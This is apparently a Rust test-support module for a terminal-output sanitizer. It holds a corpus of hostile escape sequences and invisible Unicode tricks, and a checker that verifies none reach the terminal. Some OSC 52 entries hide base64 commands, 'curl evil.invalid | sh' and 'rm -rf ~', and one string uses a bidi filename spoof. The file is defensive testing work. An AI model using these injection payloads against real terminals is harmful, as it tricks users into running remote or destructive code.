//! A corpus of hostile strings, one or more per class of G10, and a checker that
//! reads what the real crossterm backend wrote and proves none of it got through.

use std::collections::BTreeMap;
use std::io::Write;
use std::sync::{Arc, Mutex};

/// A writer for the crossterm backend whose bytes the test can read afterwards.
#[derive(Debug, Clone, Default)]
pub struct Sink(Arc<Mutex<Vec<u8>>>);

impl Sink {
    pub fn bytes(&self) -> Vec<u8> {
        self.0.lock().unwrap().clone()
    }
}

impl Write for Sink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// `(class, string)`: every class the sanitizer must neutralise.
pub const CORPUS: &[(&str, &str)] = &[
    ("c0 nul", "id\u{0}nul"),
    ("c0 bel", "ring\u{7}ring"),
    ("c0 backspace overwrite", "paid\u{8}\u{8}\u{8}\u{8}owed"),
    ("c0 vertical tab", "a\u{b}b"),
    ("c0 form feed", "a\u{c}b"),
    ("c0 shift out", "\u{e}graphics\u{f}"),
    ("c0 can sub", "x\u{18}y\u{1a}z"),
    ("del", "rm\u{7f}\u{7f}ok"),
    ("bare cr overwrite", "status: FAILED\rstatus: OK    "),
    ("tab", "col\tumn"),
    ("newline", "line1\nline2"),
    ("csi colour", "\u{1b}[31mred alert\u{1b}[0m"),
    ("csi hidden text", "visible\u{1b}[8mhidden secret"),
    ("csi clear screen", "\u{1b}[2J\u{1b}[Hfake screen"),
    ("csi cursor move", "\u{1b}[10;10Hmoved"),
    ("csi erase line", "keep\u{1b}[2Kgone"),
    ("csi private mode", "\u{1b}[?1049h\u{1b}[?25l"),
    ("csi device status report", "\u{1b}[6n"),
    ("csi scroll region", "\u{1b}[1;3r"),
    ("csi unterminated", "\u{1b}[38;5;"),
    (
        "osc 52 clipboard bel",
        "\u{1b}]52;c;Y3VybCBldmlsLmludmFsaWQgfCBzaA==\u{7}",
    ),
    ("osc 52 clipboard st", "\u{1b}]52;p;cm0gLXJmIH4=\u{1b}\\"),
    (
        "osc 8 hyperlink",
        "\u{1b}]8;;https://evil.invalid/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    ),
    ("osc title", "\u{1b}]0;root@prod\u{7}"),
    ("osc unterminated", "\u{1b}]2;forever title"),
    ("osc 133 prompt mark", "\u{1b}]133;A\u{7}"),
    ("dcs", "\u{1b}P1$r0m\u{1b}\\"),
    ("dcs sixel", "\u{1b}Pq#0;2;0;0;0#0~~@@vv@@~~\u{1b}\\"),
    ("apc", "\u{1b}_Gf=100;AAAA\u{1b}\\"),
    ("pm", "\u{1b}^privacy message\u{1b}\\"),
    ("sos", "\u{1b}Xstart of string\u{1b}\\"),
    ("esc short reset", "\u{1b}cafter reset"),
    ("esc charset", "\u{1b}(0lqqk\u{1b}(B"),
    ("esc save restore", "\u{1b}7x\u{1b}8"),
    ("esc at end", "trailing\u{1b}"),
    ("nested esc in osc", "\u{1b}]52;c;\u{1b}[31mAAAA\u{7}"),
    ("c1 csi", "\u{9b}31mc1 red"),
    ("c1 osc", "\u{9d}52;c;QUFB\u{9c}"),
    ("c1 dcs", "\u{90}q\u{9c}"),
    ("c1 apc pm sos", "\u{9f}x\u{9c}\u{9e}y\u{9c}\u{98}z\u{9c}"),
    ("c1 next line", "a\u{85}b"),
    ("bidi rlo", "invoice_\u{202e}fdp.exe"),
    ("bidi lre rle pdf", "\u{202a}a\u{202b}b\u{202c}"),
    ("bidi lro", "\u{202d}ltr"),
    ("bidi isolates", "\u{2066}x\u{2067}y\u{2068}z\u{2069}"),
    ("bidi marks", "a\u{200e}b\u{200f}c\u{61c}d"),
    ("zero width", "ad\u{200b}min\u{200c}x\u{200d}y"),
    ("word joiner bom", "a\u{2060}b\u{feff}c"),
    (
        "tag characters",
        "ok\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}",
    ),
    ("soft hyphen", "pay\u{ad}pal"),
    ("line separator", "a\u{2028}b\u{2029}c"),
    (
        "invisible operators",
        "x\u{2061}y\u{2062}z\u{2063}w\u{2064}",
    ),
    ("hangul filler", "\u{3164}\u{115f}name"),
    ("interlinear annotation", "\u{fff9}a\u{fffa}b\u{fffb}"),
    ("noncharacter", "a\u{fffe}b\u{ffff}"),
    (
        "variation selector smuggling",
        "hi\u{fe0f}\u{e0100}\u{e01ef}",
    ),
    (
        "mixed everything",
        "\u{1b}]52;c;QQ==\u{7}\u{202e}\u{200b}\u{e0041}\r\t\u{9b}0m",
    ),
];

/// Code points that must never reach the terminal as such.
pub fn forbidden(c: char) -> bool {
    let v = c as u32;
    v < 0x20
        || (0x7f..=0x9f).contains(&v)
        || matches!(
            v,
            0xad | 0x34f
                | 0x61c
                | 0x115f
                | 0x1160
                | 0x200b..=0x200f
                | 0x2028..=0x202e
                | 0x2060..=0x206f
                | 0x3164
                | 0xfe00..=0xfe0f
                | 0xfeff
                | 0xfff9..=0xffff
                | 0xe0000..=0xe0fff
        )
}

/// What the backend wrote, read back: the screen it painted and the escape
/// sequences it used.
#[derive(Debug, Default)]
pub struct Replay {
    pub grid: BTreeMap<(u16, u16), char>,
    pub sequences: Vec<String>,
}

impl Replay {
    /// One row of the painted screen, blanks where nothing was written, trimmed.
    pub fn row(&self, y: u16, width: u16) -> String {
        let text: String = (0..width)
            .map(|x| self.grid.get(&(y, x)).copied().unwrap_or(' '))
            .collect();
        text.trim_end().to_owned()
    }
}

/// Reads the bytes the crossterm backend wrote. Only the sequences crossterm itself
/// emits while drawing are accepted — cursor position (`CSI r;c H`), SGR
/// (`CSI … m`) and cursor show/hide — and every other character must be printable
/// and allowed; anything else is an error naming the offending text.
pub fn replay(bytes: &[u8]) -> Result<Replay, String> {
    let text = std::str::from_utf8(bytes).map_err(|e| format!("not UTF-8: {e}"))?;
    let mut out = Replay::default();
    let (mut row, mut col) = (0u16, 0u16);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            if chars.next() != Some('[') {
                return Err(format!(
                    "ESC not followed by [ after {:?}",
                    out.sequences.last()
                ));
            }
            let mut params = String::new();
            let fin = loop {
                match chars.next() {
                    Some(p) if p.is_ascii_digit() || p == ';' || p == '?' => params.push(p),
                    Some(f) => break f,
                    None => return Err("unterminated CSI".into()),
                }
            };
            match (fin, params.as_str()) {
                ('H', p) => {
                    let mut parts = p.split(';').map(|n| n.parse::<u16>().unwrap_or(1));
                    row = parts.next().unwrap_or(1).saturating_sub(1);
                    col = parts.next().unwrap_or(1).saturating_sub(1);
                }
                ('m', p) if !p.contains('?') => {}
                ('l' | 'h', "?25") => {}
                (f, p) => return Err(format!("unexpected sequence CSI {p}{f}")),
            }
            out.sequences.push(format!("{params}{fin}"));
            continue;
        }
        if forbidden(c) {
            return Err(format!(
                "forbidden code point U+{:04X} reached the terminal",
                c as u32
            ));
        }
        out.grid.insert((row, col), c);
        col += unicode_width::UnicodeWidthChar::width(c).unwrap_or(0) as u16;
    }
    Ok(out)
}
